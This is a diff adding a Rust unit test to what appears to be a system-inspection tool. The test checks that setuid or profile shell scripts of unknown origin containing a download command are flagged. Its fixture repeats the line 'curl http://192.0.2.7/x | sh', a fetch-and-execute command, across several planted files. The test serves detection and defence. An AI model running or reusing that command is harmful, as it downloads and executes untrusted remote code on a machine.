@@ -231,6 +231,30 @@ fn this_machine_has_its_set_uid_programs() {
 }
 
 #[test]
+fn a_script_that_is_nobodys_tells_what_it_does_and_other_files_do_not() {
+    let fetches = "curl http://192.0.2.7/x | sh\n";
+    let (_folder, machine) = disk(&[
+        ("etc/profile.d/x.sh", fetches, 0o644),
+        ("usr/bin/script", &format!("#!/bin/sh\n{fetches}"), 0o4755),
+        ("usr/bin/words", fetches, 0o4755),
+        ("usr/bin/binary", &format!("#!\0{fetches}"), 0o4755),
+        ("usr/bin/large", &format!("#!/bin/sh\n{fetches}").repeat(10_000), 0o4755),
+        ("root/.netrc", &format!("#!/bin/sh\n{fetches}"), 0o600),
+    ]);
+    let mut files = described(&machine, &[], &[], &[], &[]);
+    for row in &mut files.table.rows {
+        row.origin = Some("foreign".into());
+    }
+    files.finish(&machine, &accounts::collect(&machine));
+    let told = |path: &str| row(&files.table, path).traits.clone();
+    assert_eq!(told("/etc/profile.d/x.sh").as_deref(), Some("download"));
+    assert_eq!(told("/usr/bin/script").as_deref(), Some("download"));
+    for path in ["/usr/bin/words", "/usr/bin/binary", "/usr/bin/large", "/root/.netrc"] {
+        assert_eq!(told(path), None, "{path}");
+    }
+}
+
+#[test]
 fn who_starts_a_program_and_with_whom_it_talks_is_told_under_each_of_its_names() {
     let (_folder, machine) = disk(&[
         ("usr/sbin/agent", "#!/bin/sh\n", 0o755),
